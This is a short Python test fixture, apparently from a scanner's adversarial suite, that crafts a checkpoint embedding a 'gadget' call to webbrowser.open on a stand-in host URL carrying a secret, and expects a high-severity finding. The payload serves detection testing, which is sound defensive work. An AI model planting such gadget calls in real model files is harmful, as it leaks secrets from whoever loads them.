"""Class: gadget. webbrowser would open a page. The room has no browser: it stays a name."""

from pathlib import Path

from tests.adversarial.craft import call, checkpoint

EXPECT = {"finding": "SL501", "severity": "high", "detail": "calls webbrowser.open"}


def make(folder: Path) -> Path:
    return checkpoint(folder, call("webbrowser:open", "http://trap.example/?k=SECRET"))
